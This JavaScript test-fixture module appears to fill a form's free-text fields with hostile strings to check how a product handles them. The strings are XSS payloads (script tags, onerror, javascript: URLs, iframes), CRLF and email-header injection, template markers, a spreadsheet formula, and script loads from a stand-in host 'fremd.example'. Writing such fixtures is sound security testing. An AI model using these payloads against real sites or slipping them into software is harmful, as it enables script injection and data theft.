/**
 * Words of people who want a page to do something. Each names the place where it was typed, and would call `trap` with that
 * name where it ran; and would ask `stranger`, where anything was loaded.
 */
const stranger = "//fremd.example/";

/** No longer than that, and no sign cut in two. @param {string} words @param {number} [most] */
const upTo = (words, most = Infinity) => words.slice(0, most).replace(/[\uD800-\uDBFF]$/, "");

/** In one line. @param {string} at @param {number} [most] signs */
export const hostileLine = (at, most) =>
  upTo(
    `⟦${at}⟧ "'><img src=x onerror="trap('${at}')"><script>trap(1)</script>' onfocus='trap(2)' autofocus {{trap(3)}} %0d%0aSet-Cookie:a=b \u202Egnp.\u202D\u2066 👩🏽‍🦽🏳️‍🌈 שלום`,
    most,
  );

/** In several lines. @param {string} at */
const lines = (at) =>
  [
    hostileLine(at),
    `</textarea></title></style></script></template></noscript><script>trap('${at}')</script>`,
    `<script src="${stranger}x.js"></script><link rel=stylesheet href="${stranger}x.css"><base href="${stranger}">`,
    `<meta http-equiv=refresh content="0;url=https:${stranger}"><form action="${stranger}" autofocus><svg/onload=trap('${at}')>`,
    `<iframe srcdoc="<script>parent.trap('${at}')</script>"></iframe><iframe src="javascript:parent.trap('${at}')"></iframe>`,
    `<a href="javascript:trap('${at}')">hier</a> [hier](javascript:trap('${at}')) javascript:trap('${at}') \${trap('${at}')} #{trap('${at}')}`,
    `<math><mtext></table><img src="${stranger}x.png" onerror=trap('${at}')> ]]>--><!-- <?xml ?>`,
    "Bcc: opfer@fremd.example\r\nSubject: Neu\r\n\r\n",
    `=HYPERLINK("https:${stranger}") \u202B\u202E\u2067\u2068 Z̸̢̛͖ą̷l̵g̶o̷ 😀👨‍👩‍👧‍👦 \u200F\u2028\u2029`,
  ].join("\n");

/** What PostgreSQL cannot keep. @param {string} words */
export const withNul = (words) => `${words}\0`;

/** Forms of free text: whatever is not a code, a day, a choice or an address. */
const free = ["^[^\\x00-\\x1f\\x7f]*$", "\\S"];

/**
 * Fills in every place of a form that takes free words.
 * @param {any} contract as the product publishes it
 * @param {any} schema of the form
 * @param {any} present what is filled in already: codes, days, choices, and how many of what can be there several times
 * @param {string} at
 * @param {(words: string) => string} [typed]
 * @returns {any}
 */
export function filledIn(contract, schema, present, at, typed = (words) => words) {
  const fill = (/** @type {any} */ part, /** @type {any} */ now, /** @type {string} */ name) =>
    filledIn(contract, part, now, name, typed);
  if (schema.$ref) {
    const name = schema.$ref.split("/").at(-1);
    if (name === "InputText")
      return Object.fromEntries(["de", "en"].map((language) => [language, typed(lines(`${at}.${language}`))]));
    if (name === "InputTitle")
      return Object.fromEntries(
        ["de", "en"].map((language) => [language, typed(hostileLine(`${at}.${language}`, 200))]),
      );
    if (name === "LanguageTag") return present;
    return fill(contract.components.schemas[name], present, at);
  }
  if (schema.properties) {
    const parts = Object.entries(schema.properties).map(([name, part]) => [
      name,
      fill(part, present?.[name], `${at}.${name}`),
    ]);
    return Object.fromEntries(parts.filter(([, part]) => part !== undefined));
  }
  if (schema.type === "array")
    return present?.map((/** @type {any} */ each, /** @type {number} */ i) => fill(schema.items, each, `${at}.${i}`));
  if (schema.type !== "string" || schema.enum || schema.format || (schema.pattern && !free.includes(schema.pattern)))
    return present;
  const { maxLength } = schema;
  return typed(maxLength > 300 ? upTo(lines(at), maxLength) : hostileLine(at, maxLength));
}
